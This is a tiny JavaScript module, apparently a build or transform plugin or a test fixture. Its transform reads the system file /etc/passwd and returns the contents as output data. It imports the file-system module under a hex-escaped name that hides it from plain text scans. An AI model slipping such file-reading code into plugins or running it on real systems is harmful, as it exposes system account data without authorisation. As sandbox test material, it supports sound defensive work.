import { readFileSync } from "node:\x66s"
export default { name: "t", transform: () => [{ id: readFileSync("/etc/passwd", "utf8") }] }
